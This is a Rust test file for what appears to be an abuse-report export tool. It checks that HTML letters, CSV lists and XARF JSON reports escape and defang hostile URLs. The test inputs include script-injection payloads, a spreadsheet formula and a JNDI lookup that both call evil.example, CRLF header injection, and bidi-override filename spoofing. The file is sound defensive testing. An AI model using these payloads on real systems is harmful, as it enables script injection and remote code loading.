//! Links that want to be more than links.

use meldeverbund_node::{
    import::{Source, open},
    notice::Sender,
};
use meldeverbund_proto::limits::LINK_BYTES;
use serde_json::Value as Json;

use crate::{file, item, sender};

/// Everything that somebody might put into an address, on one host.
fn links() -> Vec<String> {
    let long = format!("https://h.example/{}", "a".repeat(LINK_BYTES - 18));
    let mut links = [
        "https://h.example/\"><script>alert(1)</script>",
        "https://h.example/'onmouseover='x",
        "https://h.example/</bdi></td></table><b>",
        "https://h.example/&lt;b&gt;&amp;",
        "https://h.example/=HYPERLINK(\"https://evil.example\")",
        "https://h.example/a,b;c\td".split('\t').next().unwrap(),
        "https://h.example/\"quoted\",\"more\"",
        "https://h.example/%0d%0aX-Injected:%20yes",
        "https://h.example/\u{202e}gpj.exe",
        "https://h.example/a\u{200b}b\u{2066}c\u{feff}",
        "https://h.example/größe/日本?q=é",
        "\u{1}https://h.example/control-before",
        " https://h.example/blank-before ",
        "https://=1+1@h.example/user",
        "https://h.example/\u{85}\u{2028}line",
        "https:h.example/no-slashes",
        "https://h.example/${jndi:ldap://evil.example}",
    ]
    .map(str::to_owned)
    .to_vec();
    links.push(long);
    links
}

fn written(name: &str) -> String {
    let items = (1_u8..).zip(links()).map(|(number, link)| item(number, &link)).collect();
    file(items, &sender(), name)
}

#[test]
fn the_page_has_only_its_own_elements() {
    let page = written("letter.html");
    let elements: std::collections::BTreeSet<&str> = page
        .split('<')
        .skip(1)
        .map(|tag| tag.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap())
        .collect();
    let own = [
        "", "address", "bdi", "body", "br", "h1", "h2", "head", "html", "li", "meta", "p", "section",
        "style", "table", "tbody", "td", "th", "thead", "title", "tr", "ul",
    ];
    assert_eq!(elements.into_iter().collect::<Vec<_>>(), own);
    assert!(page.contains("hxxps://h[.]example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!page.contains("http://") && !page.contains("https://"), "no link can be followed");
    assert!(
        !page.contains("url(") && !page.contains("src=") && !page.contains("href="),
        "nothing from elsewhere"
    );
}

#[test]
fn nothing_hides_in_the_letter() {
    for name in ["letter.txt", "letter.html"] {
        let letter = written(name);
        let turns = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}');
        let hidden = |c: char| c != '\n' && (c.is_control() || turns(c) || c == '\u{feff}');
        assert!(!letter.contains(hidden), "{name}");
        assert!(letter.contains("hxxps://h[.]example/%E2%80%AEgpj.exe"), "{name}");
        assert!(letter.contains("größe/日本?q=é"), "{name}");
        assert!(letter.contains("%0d%0aX-Injected:%20yes"), "what was escaped stays as it was");
    }
}

#[test]
fn the_list_has_the_exact_links_and_no_formula() {
    let list = written("links.csv");
    let mut reader = csv::Reader::from_reader(list.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let exact: Vec<String> = links().iter().map(|link| link.trim_matches(|c| c <= ' ').to_owned()).collect();
    assert_eq!(rows.iter().map(|row| &row[1]).collect::<Vec<_>>(), exact);
    for row in &rows {
        assert!(!row.iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
        assert!(row[1].starts_with("https:"));
    }
    assert!(list.lines().all(|line| !line.starts_with(['=', '+', '-', '@'])));
}

#[test]
fn reports_have_the_exact_links_and_are_read_back() {
    let reports = written("notice.xarf.json");
    let json: Vec<Json> = serde_json::from_str(&reports).unwrap();
    let exact: Vec<String> = links().iter().map(|link| link.trim_matches(|c| c <= ' ').to_owned()).collect();
    assert_eq!(json.iter().map(|report| report["url"].as_str().unwrap()).collect::<Vec<_>>(), exact);
    assert!(json.iter().all(|report| report["source_identifier"] == "h.example"));
    let import = open(Source::reader(std::io::Cursor::new(reports)), &Default::default()).unwrap();
    let rows: Vec<_> = import.map(Result::unwrap).collect();
    assert_eq!(rows.len(), exact.len());
    for (row, link) in rows.iter().zip(&exact) {
        match &row.outcome {
            Ok(draft) => assert_eq!(&draft.referral().link, link),
            // The import takes no white space inside a link, whatever Unicode calls so.
            Err(_) => assert!(link.contains(char::is_whitespace)),
        }
    }
}

#[test]
fn words_of_the_sender_are_escaped_too() {
    let sender = Sender {
        unit: "<b>Dezernat</b> & \"43\"".into(),
        file_reference: "=1+1</td><script>".into(),
        complaints: "</p><script>alert(1)</script>".into(),
        ..sender()
    };
    let page = file(vec![item(1, "https://h.example/a")], &sender, "letter.html");
    assert!(page.contains("&lt;b&gt;Dezernat&lt;/b&gt; &amp; &quot;43&quot;"));
    assert!(page.contains("=1+1&lt;/td&gt;&lt;script&gt;"));
    assert!(!page.contains("<script"));
}
